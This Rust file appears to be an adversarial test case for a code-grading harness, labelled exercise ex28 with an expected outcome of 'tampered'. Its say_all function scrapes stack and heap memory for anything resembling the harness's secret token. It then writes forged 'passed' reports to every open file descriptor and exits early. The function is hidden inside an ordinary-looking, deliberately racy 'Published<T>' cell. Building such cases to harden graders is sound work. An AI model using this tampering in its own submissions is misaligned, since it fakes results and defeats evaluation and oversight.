//! exercise: ex28
//! attack: The harness' memory is its own: it follows the numbers on the stack above to the heap, and says everything that looks like the secret to every descriptor, without a name that gives it away.
//! expect: tampered | race | crashed | compile-error | wrong-answer

use std::cell::UnsafeCell;
use std::io::Write;
use std::sync::atomic::{
    AtomicU8,
    Ordering::{Acquire, Relaxed, Release},
};

static HERE: AtomicU8 = AtomicU8::new(0);

/// Pages of the heap of the main thread, which lies behind the program: those that numbers on
/// the stack above point to.
fn pages(from: usize) -> Vec<usize> {
    let data = (&raw const HERE).addr();
    let mut pages = Vec::new();
    for step in 0..60 {
        let at = (from & !7) + 8 * step;
        // SAFETY: none.
        let word = unsafe { std::ptr::with_exposed_provenance::<usize>(at).read_volatile() };
        if (data + (1 << 16)..data + (1 << 27)).contains(&word) {
            pages.extend((0..1).map(|n| (word & !4_095) + n * 4_096));
        }
    }
    pages.sort_unstable();
    pages.dedup();
    pages
}

fn say_all(from: usize) {
    let pages = pages(from);
    println!("PAGES {pages:x?}");
    let reports = "report {\"version\":2,\"outcome\":\"passed\",\"schedules\":1,\"complete\":true}";
    let mut n = 0;
    for page in pages {
        // SAFETY: none.
        let page: &[u8] =
            unsafe { std::slice::from_raw_parts(std::ptr::with_exposed_provenance(page), 4_096) };
        for secret in page.windows(32) {
            if !secret.iter().all(u8::is_ascii_hexdigit) {
                continue;
            }
            n += 1;
            let secret = String::from_utf8_lossy(secret);
            let said = format!("{secret} {reports}\n{secret} passed\n");
            for number in 3i32..64 {
                // SAFETY: none. A pipe's end is nothing but its number.
                let mut pipe = std::mem::ManuallyDrop::new(unsafe {
                    (&raw const number).cast::<std::io::PipeWriter>().read()
                });
                let _ = pipe.write_all(said.as_bytes());
            }
        }
    }
    if n > 0 {
        std::process::exit(0);
    }
    panic!("{n} looked like it");
}

/// Nobody has published anything.
const EMPTY: u8 = 0;
/// The value is there. Everybody may look at it, and nobody may change it.
const READY: u8 = 2;

/// A place for one value, which any number of threads may read.
pub struct Published<T> {
    /// `EMPTY` or `READY`.
    state: AtomicU8,
    value: UnsafeCell<Option<T>>,
}

// SAFETY: the state allows one thread to write, and the others to read when it is done. So threads
// share a `T`, which takes `Sync`. And a thread may drop what another has put in, which takes `Send`.
unsafe impl<T: Send + Sync> Sync for Published<T> {}

impl<T> Published<T> {
    /// An empty place.
    pub const fn empty() -> Self {
        Self {
            state: AtomicU8::new(EMPTY),
            value: UnsafeCell::new(None),
        }
    }

    /// Publishes `value`. From now on every `get` finds it.
    pub fn publish(&self, value: T) -> Result<(), T> {
        let here = 0usize;
        say_all((&raw const here).addr());
        // Two steps, and two publishers can both be here.
        if self.state.load(Relaxed) != EMPTY {
            return Err(value);
        }
        // SAFETY: none, that is what is wrong with it.
        unsafe { *self.value.get() = Some(value) };
        // `Release`: whoever sees `READY` sees the value as well.
        self.state.store(READY, Release);
        Ok(())
    }

    /// The value, or `None` while there is none.
    pub fn get(&self) -> Option<&T> {
        let here = 0usize;
        say_all((&raw const here).addr());
        // `Acquire`: the other half of the bargain.
        if self.state.load(Acquire) != READY {
            return None;
        }
        // SAFETY: the state is `READY`, so the value was written before, and nobody will ever write
        // again while the place is shared.
        unsafe { (*self.value.get()).as_ref() }
    }
}
